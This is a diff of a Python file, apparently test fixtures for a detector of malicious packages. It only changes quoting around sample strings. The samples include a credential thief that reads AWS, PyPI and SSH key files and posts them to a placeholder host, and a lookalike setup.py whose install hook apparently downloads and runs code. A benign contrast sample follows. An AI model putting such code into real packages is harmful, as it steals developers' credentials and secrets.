@@ -13,7 +13,7 @@ import zlib
 from collections.abc import Mapping
 from pathlib import Path
 
-THIEF = '''\
+THIEF = """\
 import os
 import urllib.request
 
@@ -22,9 +22,9 @@ for name in (".aws/credentials", ".pypirc", ".ssh/id_rsa"):
     if os.path.exists(path):
         with open(path, "rb") as file:
             urllib.request.urlopen("https://collect.invalid/drop", data=file.read())
-'''
+"""
 
-DOWNLOADER = '''\
+DOWNLOADER = """\
 import subprocess
 import urllib.request
 
@@ -40,7 +40,7 @@ class Install(install):
 
 
 setup(name="lookalike-downloader", version="1.0.0", cmdclass={"install": Install})
-'''
+"""
 
 HONEST = '''\
 """Reads the token its user configured and asks the service it is a client of."""
